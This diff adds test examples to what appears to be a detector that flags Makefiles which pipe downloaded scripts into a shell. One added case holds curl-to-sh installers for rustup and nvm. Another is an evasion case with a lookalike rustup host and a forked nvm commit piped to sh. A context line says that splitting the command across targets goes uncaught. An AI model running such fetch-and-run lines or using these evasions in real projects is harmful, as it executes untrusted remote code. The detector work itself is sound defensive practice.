@@ -26,6 +26,14 @@ export const examples: Examples = {
   ],
   misses: [
     {
+      name: "the installers of well-known tools",
+      why: "Only the makers of the tools can change what lies at these addresses.",
+      files: {
+        Makefile:
+          "setup:\n\tcommand -v rustup || curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n\tcurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh | bash\n",
+      },
+    },
+    {
       name: "a target with a name of its own that installs a tool",
       why: "Nobody runs it who does not ask for it by name.",
       files: {
@@ -52,6 +60,14 @@ export const examples: Examples = {
     },
   ],
   evasions: [
+    {
+      name: "an address that only looks like that of a well-known tool, and a commit of somebody's fork",
+      caughtBy: "code/work-runs-download",
+      files: {
+        Makefile:
+          "setup:\n\tcurl -sSf https://sh.rustup.rs.example/ | sh\n\tcurl -sSf https://raw.githubusercontent.com/nvm-sh/nvm/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567/install.sh | sh\n",
+      },
+    },
     {
       name: "the command is split over two targets by hand",
       caughtBy: "nothing",
